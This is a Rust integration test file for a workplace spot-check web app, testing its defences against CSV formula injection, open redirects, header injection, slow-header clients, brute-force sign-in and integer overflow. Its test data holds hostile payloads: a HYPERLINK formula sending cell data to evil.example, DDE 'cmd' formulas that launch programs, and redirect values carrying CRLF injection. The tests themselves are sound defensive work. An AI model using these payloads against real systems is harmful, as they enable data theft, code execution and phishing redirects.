//! Exports, redirects and the server's edges over HTTP, on SQLite and PostgreSQL where a
//! database is involved: spreadsheet formulas in CSV exports are neutralised, redirects
//! after sign-in and language choice stay on the site, sign-in throttling is per account
//! and address, a client trickling its headers is cut off, a panicking handler answers
//! 500 with a request id, and page numbers or quiz indexes near the integer limits
//! answer 400.

mod common;

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex, OnceLock};
use std::time::{Duration, Instant};

use common::{BACKENDS, Backend, TestApp, World, seed_world};
use decorum::domain::ItemKind;
use decorum::domain::form::to_fields;
use decorum::domain::scoring::{Answer, Context, Gender, Subject};
use reqwest::Client;
use sea_orm::{ColumnTrait, EntityTrait, QueryFilter};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// What the probe typed into notes and names: each would run as a formula in Excel.
const PAYLOADS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"點擊\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

/// The site's today (the app judges shift dates by it), not this machine's.
fn today() -> chrono::NaiveDate {
    common::site_today()
}

/// Submit a spot-check of `subject` (a female lobby concierge at site A) by `client`,
/// with the given check items failed and notes; returns its id.
async fn submit(
    app: &TestApp,
    client: &Client,
    csrf: &str,
    w: &World,
    subject: i32,
    failed: &[String],
    notes: &BTreeMap<String, String>,
) -> uuid::Uuid {
    let lobby = common::lobby(&app.test_db.db).await;
    let who = Subject {
        gender: Some(Gender::Female),
        position: Some("lobby-concierge".into()),
    };
    let mut answers = common::perfect_answers(&lobby.checklist, &who, &Context::new());
    for key in failed {
        answers.insert(key.clone(), Answer::Fail);
    }
    let id = uuid::Uuid::new_v4();
    let mut body = vec![
        ("_csrf".to_string(), csrf.to_string()),
        ("version".into(), lobby.version_id.to_string()),
        ("site".into(), w.site_a.to_string()),
        ("subject".into(), subject.to_string()),
        ("shift_date".into(), today().to_string()),
        ("shift_period".into(), "morning".into()),
    ];
    body.extend(to_fields(&answers, notes, &Context::new()));
    let reply = client
        .post(app.url(&format!("/spotchecks/{id}/submit")))
        .header("accept", "application/json")
        .form(&body)
        .send()
        .await
        .unwrap();
    assert_eq!(reply.status(), 200, "{}", reply.text().await.unwrap());
    id
}

/// Check items of the lobby checklist that apply to a female lobby concierge.
async fn check_items(app: &TestApp, n: usize) -> Vec<String> {
    let lobby = common::lobby(&app.test_db.db).await;
    let who = Subject {
        gender: Some(Gender::Female),
        position: Some("lobby-concierge".into()),
    };
    let applies = common::perfect_answers(&lobby.checklist, &who, &Context::new());
    let keys: Vec<String> = lobby
        .checklist
        .items()
        .map(|(_, i)| i)
        .filter(|i| matches!(i.kind, ItemKind::Check) && applies.contains_key(&i.key))
        .map(|i| i.key.clone())
        .take(n)
        .collect();
    assert_eq!(keys.len(), n, "the lobby checklist has {n} check items");
    keys
}

#[tokio::test]
async fn csv_exports_neutralise_spreadsheet_formulas() {
    for backend in BACKENDS {
        let Some(app) = TestApp::spawn(backend, "csv_formulas").await else {
            continue;
        };
        let w = seed_world(&app.test_db.db).await;
        // An admin records a person whose name is a formula.
        let (admin, admin_csrf) = app.sign_in("admin@t.test").await;
        let site_a = w.site_a.to_string();
        let name = "=HYPERLINK(\"http://evil.example/\",\"陳美玲\")";
        let created = admin
            .post(app.url("/admin/people"))
            .form(&[
                ("_csrf", admin_csrf.as_str()),
                ("name", name),
                ("email", "formula@t.test"),
                ("role", "staff"),
                ("site", &site_a),
                ("position", "lobby-concierge"),
                ("gender", "female"),
                ("password", "long-enough-1"),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(created.status(), 303, "{}", created.text().await.unwrap());
        let person = entity::user::Entity::find()
            .filter(entity::user::Column::Email.eq("formula@t.test"))
            .one(&app.test_db.db)
            .await
            .unwrap()
            .expect("the person is stored");
        assert_eq!(person.name, name);

        // A supervisor checks them, with every payload as a note on a failed item.
        let (sup, sup_csrf) = app.sign_in("supervisor.a@t.test").await;
        let failed = check_items(&app, PAYLOADS.len()).await;
        let notes: BTreeMap<String, String> = failed
            .iter()
            .zip(PAYLOADS)
            .map(|(k, p)| (k.clone(), p.to_string()))
            .collect();
        submit(&app, &sup, &sup_csrf, &w, person.id, &failed, &notes).await;

        let (quality, _) = app.sign_in("quality@t.test").await;
        let range = format!("from={}&to={}", today(), today());
        for export in ["inspections.csv", "responses.csv"] {
            let reply = quality
                .get(app.url(&format!("/quality/{export}?{range}")))
                .send()
                .await
                .unwrap();
            assert_eq!(reply.status(), 200, "{export}");
            let bytes = reply.bytes().await.unwrap();
            let mut reader = csv::ReaderBuilder::new()
                .has_headers(true)
                .from_reader(bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(&bytes));
            let header = reader.headers().unwrap().clone();
            let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
            assert!(!rows.is_empty(), "{backend:?}: {export} has the spot-check");
            let mut numbers = 0;
            for row in &rows {
                for (column, cell) in header.iter().zip(row.iter()) {
                    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                        assert!(
                            cell.parse::<f64>().is_ok(),
                            "{backend:?}: {export} column {column} starts a formula: {cell:?}"
                        );
                    }
                    if ["score", "max_score", "percent", "points", "max_points"].contains(&column) {
                        assert!(cell.parse::<f64>().is_ok(), "{column} = {cell:?}");
                        numbers += 1;
                    }
                }
            }
            assert!(numbers > 0, "{export} has numeric columns, kept numeric");
            let cells: Vec<&str> = rows.iter().flat_map(|r| r.iter()).collect();
            let shown = |text: &str| cells.contains(&format!("'{text}").as_str());
            if export == "inspections.csv" {
                assert!(shown(name), "{backend:?}: the name is kept, as text");
            } else {
                // Notes are stored trimmed: a leading tab or CR is gone before export.
                for payload in PAYLOADS.map(str::trim_start) {
                    assert!(
                        shown(payload),
                        "{backend:?}: the note {payload:?} is kept, as text"
                    );
                }
            }
        }
    }
}

/// The sign-in page's hidden `next` field.
fn next_in(html: &str) -> String {
    let at = html.find("name=\"next\" value=\"").expect("a next field") + 19;
    html[at..].split('"').next().unwrap_or_default().to_string()
}

#[tokio::test]
async fn redirects_after_sign_in_and_language_stay_on_the_site() {
    // As typed in the address bar (percent-encoded), and as the value a form posts.
    let hostile: [(&str, &str); 7] = [
        ("%2F%09%2Fevil.example", "/\t/evil.example"),
        ("%2Fx%0D%0ASet-Cookie:%20a=b", "/x\r\nSet-Cookie: a=b"),
        ("%2F%0A%2Fevil.example", "/\n/evil.example"),
        ("%2F%2Fevil.example", "//evil.example"),
        ("%2F%5Cevil.example", "/\\evil.example"),
        ("https%3A%2F%2Fevil.example", "https://evil.example"),
        ("%2F%252F%2Fevil.example", "/%2F/evil.example"),
    ];
    for backend in BACKENDS {
        let Some(app) = TestApp::spawn(backend, "redirects").await else {
            continue;
        };
        seed_world(&app.test_db.db).await;
        let sign_in = async |query: &str, posted: &str| {
            let client = app.new_client();
            let page = app.sign_in_page(&client, &format!("?next={query}")).await;
            let reply = client
                .post(app.url("/signin"))
                .form(&[
                    ("email", "staff.a@t.test"),
                    ("password", common::PASSWORD),
                    ("_csrf", &common::csrf_in(&page)),
                    ("next", posted),
                ])
                .send()
                .await
                .unwrap();
            assert_eq!(reply.status(), 303, "{backend:?} {posted:?}");
            let location = reply.headers()["location"].to_str().unwrap().to_string();
            (next_in(&page), location, client)
        };
        for (query, posted) in hostile {
            let (field, location, _) = sign_in(query, posted).await;
            assert_eq!(
                field, "/",
                "{backend:?}: the form does not carry {posted:?}"
            );
            assert_eq!(location, "/", "{backend:?}: {posted:?} goes home");
        }
        let (field, location, client) = sign_in("%2Ftraining%3Fdone%3D1", "/training?done=1").await;
        assert_eq!(
            (field.as_str(), location.as_str()),
            ("/training?done=1", "/training?done=1")
        );

        let home = client.get(app.url("/")).send().await.unwrap();
        let csrf = common::csrf_in(&home.text().await.unwrap());
        for (_, posted) in hostile {
            let reply = client
                .post(app.url("/settings/lang"))
                .form(&[("_csrf", csrf.as_str()), ("lang", "en"), ("next", posted)])
                .send()
                .await
                .unwrap();
            assert_eq!(reply.status(), 303, "{backend:?} {posted:?}");
            assert_eq!(reply.headers()["location"], "/", "{backend:?} {posted:?}");
        }
    }
}

/// A sign-in from `address` (as the trusted proxy reports it): the status.
async fn sign_in_from(app: &TestApp, address: &str, email: &str, password: &str) -> u16 {
    let client = app.new_client();
    let page = app.sign_in_page(&client, "").await;
    client
        .post(app.url("/signin"))
        .header("x-forwarded-for", format!("6.6.6.6, {address}"))
        .form(&[
            ("email", email),
            ("password", password),
            ("_csrf", &common::csrf_in(&page)),
        ])
        .send()
        .await
        .unwrap()
        .status()
        .as_u16()
}

#[tokio::test]
async fn a_password_guesser_locks_out_only_their_own_address() {
    for backend in BACKENDS {
        let Some(app) = TestApp::spawn_with(backend, "throttle_per_address", |config| {
            config.trusted_proxy_header = Some("X-Forwarded-For".into())
        })
        .await
        else {
            continue;
        };
        seed_world(&app.test_db.db).await;
        let (attacker, owner) = ("203.0.113.1", "198.51.100.2");
        for _ in 0..5 {
            assert_eq!(
                sign_in_from(&app, attacker, "staff.a@t.test", "wrong").await,
                401
            );
        }
        assert_eq!(
            sign_in_from(&app, attacker, "staff.a@t.test", common::PASSWORD).await,
            429,
            "{backend:?}: the guesser's address is throttled for the account"
        );
        assert_eq!(
            sign_in_from(&app, owner, "staff.a@t.test", common::PASSWORD).await,
            303,
            "{backend:?}: the owner, elsewhere, signs in"
        );
        // One address trying many accounts is throttled across them.
        let sprayer = "203.0.113.9";
        for n in 0..20 {
            let email = format!("nobody{n}@t.test");
            assert_eq!(sign_in_from(&app, sprayer, &email, "wrong").await, 401);
        }
        assert_eq!(
            sign_in_from(&app, sprayer, "staff.b@t.test", common::PASSWORD).await,
            429,
            "{backend:?}: an address with 20 failures is throttled for every account"
        );
        assert_eq!(
            sign_in_from(&app, owner, "staff.b@t.test", common::PASSWORD).await,
            303
        );
    }
}

#[tokio::test]
async fn forwarding_headers_are_ignored_unless_a_proxy_is_trusted() {
    for backend in BACKENDS {
        let Some(app) = TestApp::spawn(backend, "throttle_untrusted_header").await else {
            continue;
        };
        seed_world(&app.test_db.db).await;
        for _ in 0..5 {
            assert_eq!(
                sign_in_from(&app, "203.0.113.1", "staff.a@t.test", "wrong").await,
                401
            );
        }
        // Same connection peer: a forged header does not buy new attempts.
        assert_eq!(
            sign_in_from(&app, "198.51.100.2", "staff.a@t.test", common::PASSWORD).await,
            429,
            "{backend:?}"
        );
    }
}

#[tokio::test]
async fn a_client_trickling_headers_is_cut_off() {
    let timeout = Duration::from_secs(2);
    let Some(app) = TestApp::spawn_with(Backend::Sqlite, "header_timeout", |config| {
        config.header_read_timeout = timeout
    })
    .await
    else {
        return;
    };
    let address = app.base.trim_start_matches("http://").to_string();
    let stream = tokio::net::TcpStream::connect(&address).await.unwrap();
    let (mut read, mut write) = stream.into_split();
    let started = Instant::now();
    let closed = tokio::spawn(async move {
        let mut answer = Vec::new();
        let _ = read.read_to_end(&mut answer).await;
        (
            started.elapsed(),
            String::from_utf8_lossy(&answer).into_owned(),
        )
    });
    // One header byte a second, for up to 15 s: never a complete request.
    let request = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: abcdefghijklmnopqrstuvwxyz";
    for byte in request.iter() {
        if closed.is_finished() || write.write_all(&[*byte]).await.is_err() {
            break;
        }
        if started.elapsed() > Duration::from_secs(15) {
            break;
        }
        tokio::time::sleep(Duration::from_millis(if *byte == b'\n' { 0 } else { 1000 })).await;
    }
    let (elapsed, answer) = tokio::time::timeout(Duration::from_secs(5), closed)
        .await
        .expect("the server closed the connection")
        .unwrap();
    assert!(
        elapsed < timeout + Duration::from_secs(2),
        "closed after {elapsed:?}, the timeout is {timeout:?}"
    );
    assert!(
        answer.is_empty() || answer.starts_with("HTTP/1.1 408"),
        "{answer}"
    );
    // A prompt client is served as usual.
    let reply = reqwest::get(app.url("/healthz")).await.unwrap();
    assert_eq!(reply.status(), 200);
}

/// Log lines written while the tests run, to check what requests log and what they never do.
fn captured_logs() -> Arc<Mutex<Vec<u8>>> {
    static LOGS: OnceLock<Arc<Mutex<Vec<u8>>>> = OnceLock::new();
    LOGS.get_or_init(|| {
        let logs = Arc::new(Mutex::new(Vec::new()));
        let sink = logs.clone();
        tracing_subscriber::fmt()
            .with_env_filter("info,sqlx=warn,sea_orm=warn")
            .with_ansi(false)
            .with_writer(move || LogSink(sink.clone()))
            .try_init()
            .ok();
        logs
    })
    .clone()
}

struct LogSink(Arc<Mutex<Vec<u8>>>);

impl std::io::Write for LogSink {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[tokio::test]
async fn requests_are_traced_and_a_panic_answers_500() {
    let logs = captured_logs();
    for backend in BACKENDS {
        let boom = axum::Router::new().route(
            "/boom",
            axum::routing::get(|| async {
                std::hint::black_box(None::<&'static str>).expect("a handler bug")
            }),
        );
        let Some(app) = TestApp::spawn_with_routes(backend, "panic_guard", |_| {}, boom).await
        else {
            continue;
        };
        seed_world(&app.test_db.db).await;
        // One connection (reqwest keeps it alive): the panic does not reset it.
        let client = app.new_client();
        let reply = client.get(app.url("/boom")).send().await.unwrap();
        assert_eq!(reply.status(), 500, "{backend:?}");
        let id = reply.headers()["x-request-id"]
            .to_str()
            .unwrap()
            .to_string();
        assert!(
            uuid::Uuid::parse_str(&id).is_ok(),
            "a generated request id: {id}"
        );
        assert!(
            reply.text().await.unwrap().contains("Something went wrong"),
            "the app's error page"
        );
        let reply = client
            .get(app.url("/boom"))
            .header("accept", "application/json")
            .header("accept-language", "en")
            .send()
            .await
            .unwrap();
        assert_eq!(reply.status(), 500, "{backend:?}");
        let body: serde_json::Value = reply.json().await.unwrap();
        assert_eq!(
            body["messages"][0], "Something went wrong.",
            "the API's error, in the language asked for"
        );
        let reply = client
            .get(app.url("/healthz"))
            .header("x-request-id", "from-the-proxy-1")
            .send()
            .await
            .unwrap();
        assert_eq!(reply.status(), 200);
        assert_eq!(reply.headers()["x-request-id"], "from-the-proxy-1");

        // A sign-in with secrets in the query, a cookie and the body.
        let page = client
            .get(app.url("/signin?next=/training&token=QUERY-SECRET"))
            .header("cookie", "decorum_session=COOKIE-SECRET")
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        client
            .post(app.url("/signin"))
            .form(&[
                ("email", "staff.a@t.test"),
                ("password", "PASSWORD-SECRET"),
                ("_csrf", &common::csrf_in(&page)),
            ])
            .send()
            .await
            .unwrap();
        let text = String::from_utf8_lossy(&logs.lock().unwrap()).into_owned();
        assert!(text.contains("a handler bug"), "the panic is logged");
        let line = text
            .lines()
            .find(|l| l.contains(&id) && l.contains("status=500"))
            .unwrap_or_else(|| panic!("a log line for request {id}:\n{text}"));
        assert!(
            line.contains("path=/boom") && line.contains("method=GET") && line.contains("latency="),
            "{line}"
        );
        assert!(text.contains("path=/signin") && text.contains("status=401"));
        for secret in ["QUERY-SECRET", "COOKIE-SECRET", "PASSWORD-SECRET"] {
            assert!(!text.contains(secret), "{secret} is logged:\n{text}");
        }
    }
}

#[tokio::test]
async fn numbers_near_the_integer_limits_answer_400() {
    for backend in BACKENDS {
        let Some(app) = TestApp::spawn(backend, "integer_limits").await else {
            continue;
        };
        let w = seed_world(&app.test_db.db).await;
        let (quality, _) = app.sign_in("quality@t.test").await;
        let (admin, _) = app.sign_in("admin@t.test").await;
        let huge = [
            u64::MAX.to_string(),
            (u64::MAX / 50 + 1).to_string(),
            "1000001".into(),
        ];
        for page in &huge {
            for (client, path) in [
                (&quality, "/inspections"),
                (&quality, "/audit"),
                (&admin, "/admin/people"),
            ] {
                let status = client
                    .get(app.url(&format!("{path}?page={page}")))
                    .send()
                    .await
                    .unwrap()
                    .status();
                assert_eq!(status, 400, "{backend:?} {path}?page={page}");
            }
        }
        for path in [
            "/inspections?page=1000000",
            "/audit?page=1000000",
            "/admin/people?page=3",
        ] {
            let client = if path.starts_with("/admin") {
                &admin
            } else {
                &quality
            };
            let status = client.get(app.url(path)).send().await.unwrap().status();
            assert_eq!(
                status, 200,
                "{backend:?} {path}: past the end is an empty page"
            );
        }

        // A failed check assigns training; its quiz with indexes at the limit is a 400.
        let (sup, sup_csrf) = app.sign_in("supervisor.a@t.test").await;
        let failed = check_items(&app, 1).await;
        let inspection = submit(
            &app,
            &sup,
            &sup_csrf,
            &w,
            w.staff_a,
            &failed,
            &BTreeMap::new(),
        )
        .await;
        let assignment = entity::training_assignment::Entity::find()
            .filter(entity::training_assignment::Column::InspectionId.eq(inspection))
            .one(&app.test_db.db)
            .await
            .unwrap()
            .expect("the failure assigned training");
        let (staff, staff_csrf) = app.sign_in("staff.a@t.test").await;
        let max = usize::MAX.to_string();
        for (question, option) in [
            (max.as_str(), "0"),
            ("0", max.as_str()),
            (max.as_str(), max.as_str()),
        ] {
            let status = staff
                .post(app.url(&format!("/training/{}/quiz", assignment.id)))
                .form(&[
                    ("_csrf", staff_csrf.as_str()),
                    (&format!("q.{question}"), option),
                ])
                .send()
                .await
                .unwrap()
                .status();
            assert_eq!(status, 400, "{backend:?} q.{question}={option}");
        }
    }
}
